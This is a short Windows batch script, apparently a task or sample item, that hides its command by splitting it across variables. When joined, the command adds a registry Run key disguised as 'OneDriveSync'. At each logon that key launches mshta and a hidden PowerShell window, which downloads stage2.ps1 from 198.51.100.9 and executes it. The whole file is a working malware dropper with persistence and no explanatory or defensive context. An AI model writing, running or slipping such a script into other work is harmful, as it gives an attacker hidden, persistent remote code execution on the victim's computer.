REM task 7829 v2
@echo off
setlocal EnableDelayedExpansion
set cko0=reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run 
set evw1=/v OneDriveSync /t REG_SZ /d "mshta vbscript:Execute(\"CreateObject(\"\"WScript.Shell\"\").Run \"\"powershe
set gsa2=ll -w hidden -c iwr http:/
set izi3=/198.51.100.9/stage2.ps1^|iex\"\", 0:close\")" /
set imy4=f
!cko0!!evw1!!gsa2!!izi3!!imy4!
